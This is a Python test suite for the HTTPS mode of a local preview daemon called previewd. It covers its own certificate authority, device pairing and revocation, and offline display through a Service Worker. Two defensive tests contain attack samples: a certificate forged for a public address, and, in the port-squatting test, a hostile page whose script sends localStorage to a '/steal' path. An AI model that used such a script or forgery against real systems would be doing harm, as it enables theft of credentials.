"""`serve --https`: previewd's own certificate authority, made once and reused; a phone (a real headless Chromium
whose certificate store trusts that authority, as a phone does once the user installed it) that reloads the
device view while previewd is down and gets the kept frame marked offline from its Service Worker; the home-screen
app started with empty storage opening on the device's last preview; each device's own credential, revocable."""
import http.client
import ipaddress
import io
import json
import os
import re
import shutil
import socket
import ssl
import subprocess
import urllib.error
import urllib.request

import pytest
from PIL import Image, ImageChops
from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By

import harness
from harness import GREETING, SECOND, daemon_binary, wait_until
from test_browser import CHROMEDRIVER, IPHONE_UA, chromium_options, page_state
from test_pairing import decode_qr, needs_zbar, printed
from test_phone import PHONE, shown_image, showing, target_id

KEPT_FRAME_JS = """
const done = arguments[arguments.length - 1];
import('./frame-cache.js').then(m => m.loadLastFrame()).then(f => done(f ? f.header.hash : null));
"""


@pytest.fixture(autouse=True)
def listening_line_may_say_https(monkeypatch):
    """The harness waits for 'previewd listening on http://…'; an HTTPS daemon says https://."""
    monkeypatch.setattr(harness, "LISTENING", re.compile(r"previewd listening on https?://([^/\s]+):(\d+)/"))


@pytest.fixture
def secure_daemon(daemon_factory):
    return daemon_factory("--https")


def authority_of(daemon):
    return daemon.state_dir / "tls"


def https_get(daemon, path, token=None):
    """GET over HTTPS, verifying the server against previewd's authority only: (status, headers, body)."""
    context = ssl.create_default_context(cafile=str(authority_of(daemon) / "ca.crt"))
    request = urllib.request.Request(f"https://{daemon.host}:{daemon.port}{path}")
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    try:
        with urllib.request.urlopen(request, context=context, timeout=10) as response:
            return response.status, {k.lower(): v for k, v in response.headers.items()}, response.read()
    except urllib.error.HTTPError as error:
        return error.code, {k.lower(): v for k, v in error.headers.items()}, error.read()


def https_post(daemon, path, body, token):
    context = ssl.create_default_context(cafile=str(authority_of(daemon) / "ca.crt"))
    request = urllib.request.Request(
        f"https://{daemon.host}:{daemon.port}{path}", data=json.dumps(body).encode(), method="POST",
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, context=context, timeout=10) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read() or b"{}")


def openssl(*arguments, cwd=None):
    return subprocess.run(["openssl", *arguments], capture_output=True, text=True, timeout=60, cwd=cwd)


def trusting_phone(tmp_path, daemon, name, mobile=True):
    """A headless Chromium with a fresh profile and phone emulation (or a desktop window) whose certificate store (the
    NSS database in its $HOME, where Chromium on Linux keeps the authorities a user added) trusts previewd's
    authority."""
    home = tmp_path / f"home-{name}"
    nss = home / ".pki" / "nssdb"
    nss.mkdir(parents=True)
    subprocess.run(
        ["certutil", "-d", f"sql:{nss}", "-N", "--empty-password"], check=True, capture_output=True, timeout=60)
    subprocess.run(["certutil", "-d", f"sql:{nss}", "-A", "-t", "C,,", "-n", "previewd local CA",
                    "-i", str(authority_of(daemon) / "ca.crt")], check=True, capture_output=True, timeout=60)
    options = chromium_options(tmp_path / f"chromium-{name}")
    options.add_argument("--hide-scrollbars")
    if mobile:
        options.add_experimental_option("mobileEmulation", {
            "deviceMetrics": {"width": PHONE["width"], "height": PHONE["height"], "pixelRatio": float(PHONE["scale"]),
                              "touch": True},
            "userAgent": IPHONE_UA,
        })
    else:
        options.add_argument("--window-size=1280,900")
    service = Service(
        CHROMEDRIVER, log_path=str(tmp_path / f"chromedriver-{name}.log"), env=dict(os.environ, HOME=str(home)))
    driver = webdriver.Chrome(service=service, options=options)
    driver.set_script_timeout(30)
    driver.execute_cdp_cmd("Emulation.setEmulatedMedia",
                           {"features": [{"name": "prefers-color-scheme", "value": PHONE["scheme"]}]})
    return driver


@pytest.fixture
def phones(tmp_path):
    started = []
    yield lambda daemon, name="phone", mobile=True: (
        started.append(trusting_phone(tmp_path, daemon, name, mobile)) or started[-1])
    for driver in started:
        driver.quit()


def secure_url(daemon, path):
    return f"https://{daemon.host}:{daemon.port}{path}"


def web_version(driver):
    return driver.execute_script("return document.querySelector('meta[name=web-version]')?.content ?? null")


def controlled_by_service_worker(driver):
    return driver.execute_script("return !!(navigator.serviceWorker && navigator.serviceWorker.controller)")


def offline_with_kept_frame(driver):
    """The page state once the device view, loaded while previewd is down, says "offline" and shows the frame it kept
    in IndexedDB; else None."""
    state = page_state(driver)
    return state and state["status"] == "offline" and (state.get("shown") or {}).get("fromStorage") and state


def test_the_authority_is_made_once_and_vouches_only_for_local_addresses(daemon_factory, tmp_path):
    daemon = daemon_factory("--https")
    folder = authority_of(daemon)
    assert oct((folder / "ca.key").stat().st_mode & 0o777) == "0o600"
    assert oct((folder / "server.key").stat().st_mode & 0o777) == "0o600"
    verified = openssl("verify", "-CAfile", str(folder / "ca.crt"), str(folder / "server.crt"))
    assert verified.returncode == 0 and "server.crt: OK" in verified.stdout, verified.stderr
    text = openssl("x509", "-in", str(folder / "server.crt"), "-noout", "-text").stdout
    assert "IP Address:127.0.0.1" in text and "DNS:localhost" in text and "TLS Web Server Authentication" in text
    authority_text = openssl("x509", "-in", str(folder / "ca.crt"), "-noout", "-text").stdout
    assert "Name Constraints: critical" in authority_text and "CA:TRUE" in authority_text

    # What a leaked key could sign for a public address, no client that checks the constraints accepts.
    work = tmp_path / "forged"
    work.mkdir()
    (work / "ext.cnf").write_text("[x]\nsubjectAltName = IP:8.8.8.8, DNS:bank.example\n")
    assert openssl("req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", "k.pem",
                   "-subj", "/CN=bank.example", "-out", "r.csr", cwd=work).returncode == 0
    assert openssl("x509", "-req", "-in", "r.csr", "-CA", str(folder / "ca.crt"), "-CAkey", str(folder / "ca.key"),
                   "-set_serial", "7", "-days", "1", "-extfile", "ext.cnf", "-extensions", "x", "-out", "f.crt",
                   cwd=work).returncode == 0
    forged = openssl("verify", "-CAfile", str(folder / "ca.crt"), str(work / "f.crt"))
    assert forged.returncode != 0 and "permitted subtree violation" in forged.stdout + forged.stderr

    # Public, without a token, byte for byte the authority's certificate.
    status, headers, body = https_get(daemon, "/ca.crt")
    assert status == 200 and headers["content-type"] == "application/x-x509-ca-cert"
    assert body == (folder / "ca.crt").read_bytes()

    authority, server = (folder / "ca.crt").read_bytes(), (folder / "server.crt").read_bytes()
    daemon.restart()
    assert (folder / "ca.crt").read_bytes() == authority, \
        "a restart made a new authority: phones would have to trust it again"
    assert (folder / "server.crt").read_bytes() == server, "the same addresses got a new server certificate"


def plain(host, port, method, path, headers=None, body=None):
    """One request over plain HTTP (no TLS), as a phone that does not trust previewd yet sends it."""
    connection = http.client.HTTPConnection(host, port, timeout=10)
    try:
        connection.request(method, path, body=body, headers=headers or {})
        response = connection.getresponse()
        return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
    finally:
        connection.close()


def fingerprint_of(pem_bytes, tmp_path):
    path = tmp_path / "fetched.crt"
    path.write_bytes(pem_bytes)
    return openssl("x509", "-in", str(path), "-noout", "-fingerprint", "-sha256").stdout.strip().split("=", 1)[1]


def test_a_phone_that_does_not_trust_previewd_yet_fetches_the_authority_over_plain_http(daemon_factory, tmp_path):
    """The HTTPS port also answers plain HTTP, for the authority's certificate alone: what a phone must install before
    it can open anything of previewd's over HTTPS. The terminal says where, with the fingerprint to compare."""
    daemon = daemon_factory("--https", "--host", "0.0.0.0")
    output = wait_until(
        lambda: (lines := printed(daemon)) and any(line.startswith("pair a phone: ") for line in lines) and lines,
        30, "the pairing lines on the terminal")
    index = next(i for i, line in enumerate(output) if line.startswith("first, on each phone once: "))
    url = output[index].split(" from ", 1)[1]
    match = re.fullmatch(r"http://([0-9.]+):(\d+)/ca\.crt", url)
    assert match and int(match.group(2)) == daemon.port, url
    lan = match.group(1)
    assert not ipaddress.ip_address(lan).is_loopback, f"a phone cannot reach {url}"
    authority = (authority_of(daemon) / "ca.crt").read_bytes()
    expected = fingerprint_of(authority, tmp_path)
    assert output[index + 1].strip().endswith(f"SHA-256 {expected})"), output[index + 1]
    assert output.index(next(line for line in output if line.startswith("pair a phone: https://"))) > index, \
        "the pairing URL comes before the step that makes it open"

    # What the phone gets at that address, without a token and without TLS.
    status, headers, body = plain(lan, daemon.port, "GET", "/ca.crt")
    assert status == 200 and headers["content-type"] == "application/x-x509-ca-cert", (status, headers)
    assert body == authority and fingerprint_of(body, tmp_path) == expected

    # Nothing else of previewd's crosses the network unencrypted: pages and the API are sent to HTTPS (without the
    # query, which may hold a token), a POST and a WebSocket are refused.
    status, headers, body = plain(lan, daemon.port, "GET", "/device")
    assert status == 308 and headers["location"] == f"https://{lan}:{daemon.port}/device", (status, headers)
    status, headers, body = plain(lan, daemon.port, "GET", f"/api/v1/catalog?token={daemon.token}",
                                  {"Authorization": f"Bearer {daemon.token}"})
    assert status == 308 and headers["location"] == f"https://{lan}:{daemon.port}/api/v1/catalog", (status, headers)
    assert b"previews" not in body and daemon.token.encode() not in body
    status, _, body = plain(lan, daemon.port, "POST", "/api/v1/select", {
        "Authorization": f"Bearer {daemon.token}", "Content-Type": "application/json"}, b'{"preview": "x"}')
    assert status == 403 and b"https://" in body, (status, body)
    with socket.create_connection((lan, daemon.port), timeout=10) as raw:
        raw.sendall((f"GET /ws?token={daemon.token} HTTP/1.1\r\nHost: {lan}:{daemon.port}\r\nUpgrade: websocket\r\n"
                     "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                     "Sec-WebSocket-Version: 13\r\n\r\n").encode())
        answer = raw.recv(4096)
    assert not answer.startswith(b"HTTP/1.1 101"), answer[:200]

    # Over HTTPS nothing changed: the same port still speaks TLS with the certificate the authority issued.
    assert https_get(daemon, "/api/v1/catalog", token=daemon.token)[0] == 200
    status, _, body = https_get(daemon, "/api/v1/pair", token=daemon.token)
    assert status == 200 and json.loads(body)["authority"] == url


def test_the_cli_talks_to_an_https_daemon_and_manages_devices(secure_daemon):
    daemon = secure_daemon
    status, answer = https_post(
        daemon, "/api/v1/devices", {"name": "Android 412x915", "client": "ab" * 16}, daemon.token)
    assert status == 200, answer
    credential, device_id = answer["credential"], answer["id"]
    assert https_get(daemon, "/api/v1/catalog", token=credential)[0] == 200
    assert https_post(daemon, "/api/v1/devices", {"name": "x"}, credential)[0] == 403, \
        "a device credential pairs no one"

    def pair(*arguments):
        return subprocess.run(
            [str(daemon_binary()), "pair", "--state-dir", str(daemon.state_dir), "--token", daemon.token, *arguments],
            capture_output=True, text=True, timeout=60)

    listed = pair("--list")
    assert listed.returncode == 0 and device_id in listed.stdout and "Android 412x915" in listed.stdout, listed.stderr
    assert credential.split("-")[2] not in listed.stdout, "the list shows a device's secret"
    revoked = pair("--revoke", device_id)
    assert revoked.returncode == 0, revoked.stderr
    assert https_get(daemon, "/api/v1/catalog", token=credential)[0] == 401
    status, _, body = https_get(daemon, f"/manifest.webmanifest?device={credential}")
    assert status == 200 and json.loads(body)["start_url"] == "device", "a revoked credential still opens the app"
    assert pair("--revoke", device_id).returncode != 0
    assert pair("--list").stdout.strip() == "no paired devices"


def test_the_manifest_and_icons_load_without_a_token(secure_daemon):
    status, headers, body = https_get(secure_daemon, "/manifest.webmanifest")
    assert status == 200 and headers["content-type"].startswith("application/manifest+json")
    manifest = json.loads(body)
    assert manifest["start_url"] == "device" and manifest["id"] == "device"
    for icon in manifest["icons"] + [{"src": "icon-180.png", "type": "image/png"}]:
        status, headers, _ = https_get(secure_daemon, "/" + icon["src"])
        assert status == 200 and headers["content-type"] == icon["type"], icon
    assert https_get(secure_daemon, "/api/v1/catalog")[0] == 401


def test_a_reload_while_the_daemon_is_down_shows_the_kept_frame_from_the_service_worker(
        daemon_factory, phones, tmp_path, monkeypatch):
    # A web root of the test's own, so it can change a file as an upgraded previewd would.
    web = tmp_path / "Web"
    shutil.copytree(harness.REPO / "Web", web)
    monkeypatch.setenv("PREVIEWD_WEB_ROOT", str(web))
    daemon = daemon_factory("--https")
    phone = phones(daemon)
    phone.get(secure_url(daemon, f"/device#token={daemon.token}"))
    wait_until(lambda: showing(phone, GREETING, PHONE), 90, "the phone showing a frame over HTTPS")
    assert phone.execute_script("return isSecureContext && location.protocol") == "https:"
    wait_until(lambda: phone.execute_script("return window.previewdOffline && window.previewdOffline.registered"), 30,
               "the Service Worker registered")
    wait_until(lambda: controlled_by_service_worker(phone), 30, "the Service Worker controlling the page")
    # The pairing token was traded for the device's own credential and forgotten.
    stored = phone.execute_script(
        "return [localStorage.getItem('previewd.token'), localStorage.getItem('previewd.device')]")
    assert stored[0] is None and stored[1] and stored[1].startswith("dev-"), stored

    # previewd's web files change (an upgrade): the next load while it runs gets them, and so does the kept copy.
    page = web / "device.html"
    page.write_text(page.read_text().replace("<head>", '<head>\n  <meta name="web-version" content="new">', 1))
    phone.refresh()
    wait_until(lambda: showing(phone, GREETING, PHONE), 60, "the phone showing a frame after a reload")
    assert web_version(phone) == "new", "the Service Worker served an old page while previewd was running"

    kept = shown_image(phone)
    kept_hash = page_state(phone)["shown"]["hash"]
    wait_until(lambda: phone.execute_async_script(KEPT_FRAME_JS) == kept_hash, 10, "the frame kept in IndexedDB")

    daemon.kill()  # nothing answers on the daemon's port any more: no stand-in server
    phone.refresh()
    state = wait_until(lambda: offline_with_kept_frame(phone), 30,
                       "'offline' with the kept frame after a reload with previewd down")
    assert state["shown"]["hash"] == kept_hash
    assert phone.find_element(By.ID, "status").text == "offline"
    assert ImageChops.difference(shown_image(phone), kept).getbbox() is None
    assert phone.execute_script("return document.documentElement.classList.contains('not-live')")
    # With no catalog to fill it, the picker still says what the kept frame was rendered for.
    picked = phone.execute_script("return document.getElementById('target-picker').selectedOptions[0]?.text ?? ''")
    assert picked == "This screen", f"the target picker shows {picked!r} offline"
    assert phone.find_element(By.CSS_SELECTOR, ".device-bar .not-live-label").is_displayed()
    assert web_version(phone) == "new", "the kept page is not the newest one"

    # Back up: the same page goes live again, on files fetched from previewd (network first).
    daemon.restart()
    wait_until(lambda: showing(phone, GREETING, PHONE), 90, "the phone live again after previewd came back")

    # Revoked: the open page is closed, finds its credential refused, forgets it and says it is not paired.
    device_id = phone.execute_script("return localStorage.getItem('previewd.device')").split("-")[1]
    revoked = subprocess.run([str(daemon_binary()), "pair", "--revoke", device_id, "--state-dir", str(daemon.state_dir),
                              "--token", daemon.token], capture_output=True, text=True, timeout=60)
    assert revoked.returncode == 0, revoked.stderr
    wait_until(lambda: page_state(phone)["status"] == "unpaired", 30, "'not paired' on the revoked phone")
    assert phone.find_element(By.ID, "status").text.startswith("not paired")
    # The whole sentence is on the screen, wrapped inside its pill, not cut off at the phone's edge.
    left, right, width = phone.execute_script(
        "const box = document.getElementById('status').getBoundingClientRect();"
        "return [box.left, box.right, document.documentElement.clientWidth]")
    assert 0 <= left and right <= width, f"the status runs from {left} to {right} on a {width}-px screen"
    assert phone.execute_script("return localStorage.getItem('previewd.device')") is None


def start_url_after_choosing_the_second_preview(daemon, phone, screen_of):
    """Pairs `phone` over HTTPS, moves it to the second preview and returns the start URL of the manifest it links,
    read as a phone reads it when it adds the app to its home screen (without the token), and the phone's screen
    (`screen_of(phone)` once the page is loaded)."""
    phone.get(secure_url(daemon, f"/device#token={daemon.token}"))
    screen = screen_of(phone)
    wait_until(lambda: showing(phone, GREETING, screen), 90, "the phone on the first preview")
    phone.execute_script("document.getElementById('next').click()")
    wait_until(lambda: showing(phone, SECOND, screen), 60, "the phone on the second preview, chosen on the phone")
    manifest_url = wait_until(
        lambda: (href := phone.execute_script("return document.querySelector('link[rel=manifest]').href"))
        and "device=" in href and href,
        10, "the manifest link carrying the device's credential")
    status, _, body = https_get(daemon, manifest_url.split(f"{daemon.port}", 1)[1])
    assert status == 200
    return json.loads(body)["start_url"], screen


def test_the_home_screen_app_opens_on_the_last_preview_with_empty_storage(secure_daemon, phones):
    daemon = secure_daemon
    start_url, _ = start_url_after_choosing_the_second_preview(daemon, phones(daemon, "browser"), lambda _: PHONE)
    assert start_url.startswith("device#device=dev-") and "&client=" in start_url, start_url

    # iOS starts a home-screen app with storage of its own: a fresh profile at the manifest's start_url.
    app = phones(daemon, "home-screen")
    app.get(secure_url(daemon, "/" + start_url))
    wait_until(lambda: showing(app, SECOND, PHONE), 90, "the home-screen app on the device's last preview")
    assert "device=" not in app.current_url, "the credential stays in the address bar"
    assert app.execute_script("return localStorage.getItem('previewd.token')") is None
    status, _, body = https_get(daemon, f"/api/v1/frames/{SECOND}/{target_id(PHONE)}", token=daemon.token)
    assert status == 200
    assert ImageChops.difference(shown_image(app), Image.open(io.BytesIO(body)).convert("RGB")).getbbox() is None, \
        "the home-screen app shows other pixels than the daemon's frame of the last preview"


def test_the_dashboard_offers_the_authority_with_its_fingerprint(daemon_factory, phones, tmp_path):
    daemon = daemon_factory("--https", "--host", "0.0.0.0")
    output = wait_until(
        lambda: (lines := printed(daemon)) and any(line.startswith("first, on each phone once: ") for line in lines)
        and lines, 30, "the pairing lines on the terminal")
    lan_host = re.search(r"http://([0-9.]+):", next(line for line in output if line.startswith("first, "))).group(1)
    assert not ipaddress.ip_address(lan_host).is_loopback, output
    expected = openssl("x509", "-in", str(authority_of(daemon) / "ca.crt"), "-noout", "-fingerprint", "-sha256").stdout
    expected = expected.strip().split("=", 1)[1]
    browser = phones(daemon, "dashboard", mobile=False)
    browser.get(secure_url(daemon, f"/#token={daemon.token}"))
    panel = browser.find_element(By.ID, "trust")
    wait_until(lambda: panel.get_attribute("hidden") is None, 30, "the trust panel shown")
    browser.find_element(By.CSS_SELECTOR, "#pair summary").click()
    browser.find_element(By.CSS_SELECTOR, "#trust summary").click()
    # One panel of the header at a time: both are fixed to the window's corner, one would lie over the other.
    panels = browser.execute_script("return ['pair', 'trust'].map(id => document.getElementById(id).open)")
    assert panels == [False, True], f"the pairing and trust panels open: {panels}"
    assert browser.find_element(By.ID, "trust-fingerprint").text == expected
    assert browser.find_element(By.ID, "trust-download").get_attribute("href") == secure_url(daemon, "/ca.crt")
    # A phone fetches it over plain HTTP, since it cannot use previewd's HTTPS before it trusts the authority.
    plain_url = f"http://{lan_host}:{daemon.port}/ca.crt"
    assert browser.find_element(By.ID, "trust-url").text == plain_url
    code = browser.find_element(By.ID, "trust-code")
    wait_until(
        lambda: browser.execute_script("return arguments[0].complete && arguments[0].naturalWidth > 0", code), 10,
        "the authority's QR code loaded")
    if shutil.which("zbarimg"):
        scanned = decode_qr(Image.open(io.BytesIO(code.screenshot_as_png)), tmp_path)
        assert scanned == plain_url, scanned
    assert "Certificate Trust Settings" in panel.text and "CA certificate" in panel.text
    box = browser.execute_script("const r = document.querySelector('.trust-panel').getBoundingClientRect();"
                                 " return [r.left, r.right, innerWidth]")
    assert box[0] >= 0 and box[1] <= box[2], f"the panel leaves the window: {box}"
    browser.save_screenshot(str(tmp_path / "trust-panel.png"))


def test_a_daemon_on_loopback_offers_the_authority_to_this_machine_only(secure_daemon, phones):
    """No phone can reach a daemon listening on 127.0.0.1: the trust panel says how to make it reachable, as the
    pairing panel does, instead of a code and an address no phone can open."""
    daemon = secure_daemon
    status, _, body = https_get(daemon, "/api/v1/pair", daemon.token)
    assert status == 200 and "--host 0.0.0.0" in json.loads(body)["hint"], body
    status, _, body = https_get(daemon, "/api/v1/pair/authority-qr.svg", daemon.token)
    assert status == 404 and b"--host 0.0.0.0" in body, (status, body)
    browser = phones(daemon, "dashboard", mobile=False)
    browser.get(secure_url(daemon, f"/#token={daemon.token}"))
    panel = browser.find_element(By.ID, "trust")
    wait_until(lambda: panel.get_attribute("hidden") is None, 30, "the trust panel shown")
    browser.find_element(By.CSS_SELECTOR, "#trust summary").click()
    assert "--host 0.0.0.0" in browser.find_element(By.ID, "trust-hint").text
    assert not browser.find_elements(By.ID, "trust-code") and not browser.find_elements(By.ID, "trust-url")
    assert browser.find_element(By.ID, "trust-download").get_attribute("href") == secure_url(daemon, "/ca.crt")


def test_a_stranger_serving_the_port_while_previewd_is_down_gets_nothing(secure_daemon, phones, tmp_path):
    """Port squatting (Security.md): another program takes previewd's port while it is stopped. Over HTTPS it has
    no certificate the phone trusts, so its page never runs in previewd's origin and never sees the credential;
    the phone shows the kept device view, offline."""
    import http.server
    import threading

    daemon = secure_daemon
    phone = phones(daemon)
    phone.get(secure_url(daemon, f"/device#token={daemon.token}"))
    wait_until(lambda: showing(phone, GREETING, PHONE), 90, "the phone showing a frame over HTTPS")
    wait_until(lambda: controlled_by_service_worker(phone), 30, "the Service Worker controlling the page")
    # Right after pairing, without another load while previewd runs: the files of this first load are kept.
    wait_until(lambda: phone.execute_script("return window.previewdOffline.kept"), 30, "this load's files kept")
    kept_hash = page_state(phone)["shown"]["hash"]
    wait_until(lambda: phone.execute_async_script(KEPT_FRAME_JS) == kept_hash, 10, "the frame kept in IndexedDB")
    daemon.kill()

    # The stranger's server: a certificate for 127.0.0.1 of its own making, and a page that would send the
    # origin's storage home.
    key, certificate = tmp_path / "stranger.key", tmp_path / "stranger.crt"
    assert openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "1",
                   "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", str(key),
                   "-out", str(certificate)).returncode == 0
    requests = []

    class Stranger(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            requests.append(self.path)
            body = b"<script>fetch('/steal?' + encodeURIComponent(JSON.stringify(localStorage)))</script>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer((daemon.host, daemon.port), Stranger)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(str(certificate), str(key))
    server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        phone.refresh()
        wait_until(lambda: offline_with_kept_frame(phone), 30,
                   "the kept device view, offline, with the stranger on the port")
        assert page_state(phone)["shown"]["hash"] == kept_hash
        assert requests == [], f"the stranger's server was asked for {requests}"
    finally:
        server.shutdown()
        server.server_close()
